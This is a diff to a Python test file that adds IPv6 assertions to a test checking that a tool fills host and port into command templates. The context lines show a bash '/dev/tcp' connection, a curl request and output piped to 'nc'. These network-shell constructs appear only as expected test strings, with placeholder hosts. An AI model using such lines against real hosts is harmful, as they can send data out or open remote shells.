@@ -270,6 +270,8 @@ def test_fill_puts_host_and_port_of_the_server_into_the_lines() -> None:
     assert Reach("h", 81).fill(bash).startswith("( exec 3<>/dev/tcp/h/81; ")
     assert Reach("h", 81).fill(curl).endswith(" 'http://h:81/a'")
     assert Reach("h", 81).fill(shell_line(plain)).endswith(" | nc h 81")
+    assert Reach("::1", 81).fill(curl).endswith(" 'http://[::1]:81/a'")
+    assert Reach("::1", 81).fill(shell_line(plain)).endswith(" | nc ::1 81")
 
 
 def test_fill_puts_the_options_of_the_server_into_a_replay_line() -> None:
